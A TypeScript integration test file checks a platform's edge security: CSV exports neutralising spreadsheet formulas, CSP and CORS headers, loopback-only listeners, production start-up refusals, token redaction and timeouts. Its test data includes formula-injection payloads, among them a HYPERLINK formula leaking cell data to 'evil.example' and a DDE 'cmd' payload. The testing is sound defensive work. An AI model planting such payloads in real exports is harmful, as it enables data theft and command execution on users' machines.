// The platform's edge as an outsider meets it over real sockets: CSV exports that cannot carry
// spreadsheet formulas, security headers and CORS, metrics off the API port, loopback listeners
// by default, production start-up refusals, tokens kept out of logs, and request timeouts.
import { execFile } from 'node:child_process';
import { connect, type Socket } from 'node:net';
import { networkInterfaces } from 'node:os';
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type System, startSystem } from '../../src/app/system.js';
import { loadConfig } from '../../src/config.js';
import { buildApp } from '../../src/http/app.js';
import { neutraliseCell } from '../../src/platform/csv.js';
import { createLogger } from '../../src/platform/logger.js';
import { loginAs } from '../helpers/api.js';
import { startTestSystem, type TestSystem, testEnv } from '../helpers/system.js';

let sys: TestSystem;
const logLines: string[] = [];
const logSink = new Writable({
  write(chunk: Buffer, _enc, done) {
    logLines.push(...chunk.toString('utf8').split('\n').filter(Boolean));
    done();
  },
});

const FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', '@SUM(1+1)', "+cmd|' /C calc'!A0", '-2+3', '\t=1+1', '\r=1+1'];

beforeAll(async () => {
  sys = await startTestSystem('api', { LOG_LEVEL: 'info' }, logSink);
  const db = sys.services.db;
  const contractor = await db.customer.create({ data: { kind: 'CONTRACTOR', name: 'Contractor', commissionRateBp: 1000 } });
  const plan = await db.tariffPlan.create({ data: { code: 'EDGE', name: 'Edge plan', monthlyRentalMinor: 1000n } });
  for (const [i, name] of [...FORMULA_NAMES, 'Plain Name'].entries()) {
    const c = await db.customer.create({ data: { kind: 'END_USER', name, contractorId: contractor.id } });
    const contract = await db.contract.create({
      data: { number: `C-EDGE-${i}`, customerId: c.id, tariffPlanId: plan.id, startDate: new Date('2026-01-01T00:00:00Z') },
    });
    await db.invoice.create({
      data: {
        contractId: contract.id,
        customerId: c.id,
        period: '2026-10',
        subtotalMinor: 1000n + BigInt(i),
        totalMinor: 1000n,
        status: 'ISSUED',
        issuedAt: new Date('2026-10-01T00:00:00Z'),
        dueAt: new Date('2026-12-10T00:00:00Z'),
      },
    });
  }
});
afterAll(async () => {
  await sys?.stop();
});

async function run(args: string[], env: Record<string, string>): Promise<{ code: number | null; stderr: string }> {
  return new Promise((resolve) => {
    const options = { env: { PATH: process.env.PATH ?? '', ...env }, timeout: 60_000 };
    execFile(process.execPath, ['--import', 'tsx', 'src/main.ts', ...args], options, (err, _out, stderr) => {
      resolve({ code: err ? ((err as { code?: number }).code ?? null) : 0, stderr });
    });
  });
}

describe('CSV exports', () => {
  it('write names that a spreadsheet would run as formulas as text', async () => {
    const finance = await loginAs(sys.services, sys.app!, 'FINANCE');
    const expected = [...FORMULA_NAMES.map((n) => `'${n}`), 'Plain Name'].sort();

    const invoices = await fetch(`${sys.httpUrl}/api/v1/invoices.csv`, { headers: finance.headers });
    expect(invoices.status).toBe(200);
    const invoiceRows = parse(await invoices.text(), { columns: true }) as Record<string, string>[];
    expect(invoiceRows.map((r) => r.customer).sort()).toEqual(expected);

    const value = await fetch(`${sys.httpUrl}/api/v1/reports/customer-value?period=2026-10&format=csv`, { headers: finance.headers });
    expect(value.status).toBe(200);
    const valueRows = parse(await value.text(), { columns: true }) as Record<string, string>[];
    expect(valueRows.map((r) => r.name).sort()).toEqual(expected);
  });

  it('leave plain numbers, negative amounts included, as numbers', () => {
    expect(neutraliseCell('-12.50')).toBe('-12.50');
    expect(neutraliseCell('+3')).toBe('+3');
    expect(neutraliseCell('-1-1')).toBe("'-1-1");
    expect(neutraliseCell('a=b')).toBe('a=b');
  });
});

describe('browser policy', () => {
  it('sends a strict content security policy and no CORS headers by default', async () => {
    for (const path of ['/', '/api/v1/customers', '/healthz']) {
      const res = await fetch(`${sys.httpUrl}${path}`, { headers: { origin: 'https://evil.example' } });
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp, path).toContain("script-src 'self'");
      expect(csp, path).toContain("style-src 'self'");
      expect(csp, path).toContain("frame-ancestors 'none'");
      expect(csp, path).not.toContain('unsafe-inline');
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(res.headers.get('access-control-allow-origin'), path).toBeNull();
    }
    const preflight = await fetch(`${sys.httpUrl}/api/v1/customers`, {
      method: 'OPTIONS',
      headers: { origin: 'https://evil.example', 'access-control-request-method': 'GET' },
    });
    expect(preflight.headers.get('access-control-allow-origin')).toBeNull();
  });

  it('answers CORS for configured origins only', async () => {
    const config = { ...sys.config, CORS_ORIGINS: ['https://console.example.com'] };
    const app = await buildApp({ ...sys.services, config }, createLogger('silent'));
    await app.listen({ host: '127.0.0.1', port: 0 });
    const address = app.server.address();
    const url = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
    try {
      const preflight = await fetch(`${url}/api/v1/customers`, {
        method: 'OPTIONS',
        headers: {
          origin: 'https://console.example.com',
          'access-control-request-method': 'GET',
          'access-control-request-headers': 'authorization',
        },
      });
      expect(preflight.status).toBe(204);
      expect(preflight.headers.get('access-control-allow-origin')).toBe('https://console.example.com');
      expect(preflight.headers.get('access-control-allow-headers')).toContain('authorization');
      const ops = await loginAs(sys.services, app, 'OPS');
      const allowed = await fetch(`${url}/api/v1/customers`, { headers: { ...ops.headers, origin: 'https://console.example.com' } });
      expect(allowed.status).toBe(200);
      expect(allowed.headers.get('access-control-allow-origin')).toBe('https://console.example.com');
      const other = await fetch(`${url}/api/v1/customers`, { headers: { ...ops.headers, origin: 'https://evil.example' } });
      expect(other.headers.get('access-control-allow-origin')).toBeNull();
    } finally {
      await app.close();
    }
  });
});

describe('listeners', () => {
  it('serves metrics on their own loopback listener, not on the API port', async () => {
    expect((await fetch(`${sys.httpUrl}/metrics`)).status).toBe(404);
    expect(new URL(sys.metricsUrl!).hostname).toBe('127.0.0.1');
    const metrics = await fetch(sys.metricsUrl!);
    expect(metrics.status).toBe(200);
    expect(await metrics.text()).toContain('nx_http_request_duration_seconds');
  });

  it('listen on loopback only unless HTTP_HOST and MQTT_HOST say otherwise', async () => {
    const env = testEnv(sys.databaseUrl, sys.config.REDIS_PREFIX, { DEMO_FLEET_SIZE: '0' });
    for (const key of ['HTTP_HOST', 'MQTT_HOST', 'METRICS_HOST'] as const) delete env[key];
    const config = loadConfig(env);
    expect([config.HTTP_HOST, config.MQTT_HOST, config.METRICS_HOST]).toEqual(['127.0.0.1', '127.0.0.1', '127.0.0.1']);
    const peer: System = await startSystem(config, 'gateway', createLogger('silent'));
    const api: System = await startSystem(config, 'api', createLogger('silent'));
    try {
      const apiPort = Number(new URL(api.httpUrl!).port);
      const metricsPort = Number(new URL(api.metricsUrl!).port);
      expect((await fetch(`${api.httpUrl}/healthz`)).status).toBe(200);
      // The machine's own non-loopback addresses do not reach any of them.
      const external = Object.values(networkInterfaces())
        .flat()
        .filter((a) => a && !a.internal && a.family === 'IPv4');
      for (const a of external) {
        for (const port of [apiPort, metricsPort, peer.mqttPort!]) {
          await expect(tcpConnect(a!.address, port), `${a!.address}:${port}`).rejects.toThrow(/ECONNREFUSED/);
        }
      }
    } finally {
      await api.stop();
      await peer.stop();
    }
  });
});

describe('production start-up', () => {
  it('stops without SECRET_KEY, and refuses demo data', async () => {
    const base = {
      NODE_ENV: 'production',
      LOG_LEVEL: 'silent',
      DATABASE_URL: sys.databaseUrl,
      HTTP_PORT: '0',
      METRICS_PORT: '0',
      MQTT_PORT: '0',
    };
    const noKey = await run(['api'], base);
    expect(noKey.code).toBe(2);
    expect(noKey.stderr).toMatch(/SECRET_KEY: required when NODE_ENV=production/);
    const demo = await run(['all', '--demo'], { ...base, SECRET_KEY: 'a-real-production-key-0123456789' });
    expect(demo.code).toBe(2);
    expect(demo.stderr).toMatch(/--demo is refused with NODE_ENV=production/);
    expect(await sys.services.db.user.count({ where: { email: { endsWith: '@demo.nexsphere' } } })).toBe(0);
  }, 120_000);
});

describe('request logs', () => {
  it('never carry an access_token query parameter', async () => {
    const secret = 'nxs_logged_secret_0123456789';
    for (const q of [`access_token=${secret}&limit=5`, `limit=5&access%5Ftoken=${secret}`]) {
      expect((await fetch(`${sys.httpUrl}/api/v1/customers?${q}`)).status).toBe(401);
    }
    await new Promise((r) => setTimeout(r, 200));
    const requests = logLines.filter((l) => l.includes('/api/v1/customers?'));
    expect(requests.length).toBeGreaterThanOrEqual(2);
    expect(logLines.join('\n')).not.toContain(secret);
    expect(requests.some((l) => l.includes('access_token=[redacted]'))).toBe(true);
  });
});

describe('timeouts', () => {
  it.concurrent('close a connection that never finishes its request', async () => {
    const socket = await tcpConnect('127.0.0.1', Number(new URL(sys.httpUrl!).port));
    const started = Date.now();
    socket.write('GET /api/v1/cust');
    const closed = await new Promise<boolean>((resolve) => {
      const timer = setTimeout(() => resolve(false), 25_000);
      socket.on('close', () => {
        clearTimeout(timer);
        resolve(true);
      });
      socket.on('error', () => {});
      socket.resume();
    });
    socket.destroy();
    expect(closed, 'the server closed the half-sent request').toBe(true);
    expect(Date.now() - started).toBeGreaterThan(5_000);
  }, 40_000);

  it.concurrent('keep the live feed streaming past the request timeout', async () => {
    const ops = await loginAs(sys.services, sys.app!, 'OPS');
    const controller = new AbortController();
    const res = await fetch(`${sys.httpUrl}/api/v1/live`, { headers: ops.headers, signal: controller.signal });
    expect(res.headers.get('content-type')).toContain('text/event-stream');
    const reader = res.body!.getReader();
    const started = Date.now();
    let text = '';
    // The heartbeat comes every 15 s, past the 10 s request timeout.
    while (!text.includes(': keep-alive')) {
      const { value, done } = await reader.read();
      if (done) break;
      text += new TextDecoder().decode(value);
    }
    controller.abort();
    expect(text).toContain('event: hello');
    expect(text).toContain(': keep-alive');
    expect(Date.now() - started).toBeGreaterThan(10_000);
  }, 40_000);
});

function tcpConnect(host: string, port: number): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const s = connect({ host, port });
    s.once('connect', () => resolve(s));
    s.once('error', reject);
  });
}
